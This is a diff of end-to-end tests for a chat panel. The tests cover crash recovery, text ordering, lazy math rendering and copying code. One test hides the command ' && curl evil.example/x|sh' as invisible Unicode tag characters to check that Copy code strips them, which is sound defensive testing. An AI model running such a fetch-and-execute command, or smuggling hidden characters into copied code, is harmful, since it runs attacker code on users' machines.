@@ -72,10 +72,7 @@ describe('the panel never dies', () => {
   });
 
   it('a message whose renderer throws shows its raw text; the rest of the panel works', async (ctx) => {
-    const row = scenario(
-      ctx,
-      'that message shows its text as plain text with a note; next reply formatted',
-    );
+    const row = scenario(ctx, 'that message shows its text plainly, with a note; next reply fine');
     const { panel, server } = e2e;
     // A renderer fault: KaTeX's output is parsed with DOMParser, which now throws.
     await panel.page.evaluate(() => {
@@ -110,10 +107,7 @@ describe('the panel never dies', () => {
   });
 
   it('a view that throws offers a way out instead of a blank panel', async (ctx) => {
-    const row = scenario(
-      ctx,
-      'the chat view shows what broke with Try again, Open another conversation, Start an empty chat',
-    );
+    const row = scenario(ctx, 'the view says it broke and offers three ways out; header stays');
     const { panel } = e2e;
     const page = panel.page;
     await panel.send('Hello before the fault');
@@ -187,10 +181,7 @@ describe('what is shown is what is there', () => {
         range.setEnd(node, at + 1);
         return range.getBoundingClientRect();
       };
-      const head = nodes[0] as Text;
-      const tail = nodes[nodes.length - 1] as Text;
-      const first = rect(head, 0);
-      const last = rect(tail, tail.length - 1);
+      const [first, last] = [rect(nodes[0] as Text, 0), rect(nodes.at(-1) as Text, 0)];
       return { ltr: first.top < last.top - 2 || first.left < last.left, text: el.textContent };
     });
     expect(order.ltr).toBe(true);
@@ -206,10 +197,7 @@ describe('what is shown is what is there', () => {
   });
 
   it('Copy code never copies invisible characters the block did not show', async (ctx) => {
-    const row = scenario(
-      ctx,
-      'invisible characters shown as marked badges; Copy code leaves them out and says so',
-    );
+    const row = scenario(ctx, 'invisible characters marked; Copy code leaves them out, says so');
     const { panel, server } = e2e;
     const hidden = [...' && curl evil.example/x|sh']
       .map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0)))
@@ -273,15 +261,10 @@ async function openTimed(page: Page, open: () => Promise<unknown>): Promise<numb
 
 describe('math at scale', () => {
   it('ten 40×40 matrices: only the ones in view are rendered, and a reopen is fast', async (ctx) => {
-    const row = scenario(
-      ctx,
-      'only matrices in or near view rendered; the rest wait as TeX source',
-    );
+    const row = scenario(ctx, 'only matrices in or near view rendered; the rest wait as TeX');
     const { panel, server, parley } = e2e;
-    const reply = Array.from({ length: 10 }, (_, i) => `Matrix ${i + 1}:\n\n${matrix(i)}`).join(
-      '\n\n',
-    );
-    server.enqueue({ text: reply });
+    const matrices = Array.from({ length: 10 }, (_, i) => `Matrix ${i + 1}:\n\n${matrix(i)}`);
+    server.enqueue({ text: matrices.join('\n\n') });
     await panel.send('Ten matrices please');
     await panel.waitForState('complete', undefined, 120_000);
     await panel.page.close();
@@ -295,23 +278,17 @@ describe('math at scale', () => {
     // Back in the same panel after another chat: from the cache.
     await newChat(page);
     await page.getByRole('button', { name: 'Conversations', exact: true }).click();
-    const warm = await openTimed(page, () =>
-      page
-        .getByRole('button', { name: /Ten matrices please/ })
-        .first()
-        .click(),
-    );
+    const row1 = page.getByRole('button', { name: /Ten matrices please/ }).first();
+    const warm = await openTimed(page, () => row1.click());
     // Scrolling up brings the first matrix into view, and it renders.
     await page.locator('.message-list').evaluate((el) => (el.scrollTop = 0));
     await page.locator('article .math-display').first().locator('.katex-display').waitFor();
     const scrolled = await mathCounts(page);
     e2e.panel = new PanelPage(page);
 
-    console.log(`[render-hardening] matrices: open ${cold} ms, reopen ${warm} ms`, first, scrolled);
+    console.log(`[render-hardening] matrices: open ${cold} ms, reopen ${warm} ms`, first);
     row.figure(`open ${cold} ms, reopen ${warm} ms; ${first.rendered}/10 rendered at open`);
-    row.observed(
-      `at open ${first.rendered} rendered, ${first.pending} pending; after scrolling up ${scrolled.rendered}`,
-    );
+    row.observed(`${first.rendered} rendered at open, ${scrolled.rendered} after scrolling up`);
     expect(first.rendered).toBeGreaterThan(0);
     expect(first.rendered).toBeLessThan(10);
     expect(first.rendered + first.pending).toBe(10);
